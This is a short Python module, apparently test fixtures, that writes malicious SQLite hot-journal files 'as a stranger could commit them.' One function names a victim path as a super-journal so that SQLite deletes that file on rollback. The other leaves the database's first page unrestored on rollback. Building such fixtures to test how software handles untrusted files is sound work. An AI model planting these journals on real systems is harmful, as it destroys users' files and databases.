"""SQLite files as a stranger could commit them."""

from __future__ import annotations

import os
import struct
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from pathlib import Path

#: Every rollback journal begins with it, and one that names a super-journal ends with it (sqlite.org/fileformat.html).
MAGIC = bytes.fromhex("d9d505f920a163d7")


def journal_that_deletes(database: Path, victim: Path) -> None:
    """Write beside a database a hot journal that names a super-journal: SQLite removes that one when it rolls back."""
    page = int.from_bytes(database.read_bytes()[16:18]) or 1
    page = 65536 if page == 1 else page
    pages = os.path.getsize(database) // page
    header = MAGIC + struct.pack(">IIIII", 0, 0x1234, pages, 512, page)
    name = str(victim).encode()
    tail = struct.pack(">I", 0x40000000 // page + 1) + name + struct.pack(">II", len(name), sum(name)) + MAGIC
    journal = database.with_name(database.name + "-journal")
    journal.write_bytes(header.ljust(512, b"\0") + tail)
    journal.chmod(0o600)


def journal_that_cuts(database: Path) -> None:
    """Write beside a database a hot journal that leaves its first page alone when SQLite rolls it back."""
    header = MAGIC + struct.pack(">IIIII", 0, 0x1234, 1, 512, 4096)
    journal = database.with_name(database.name + "-journal")
    journal.write_bytes(header.ljust(512, b"\0"))
    journal.chmod(0o600)
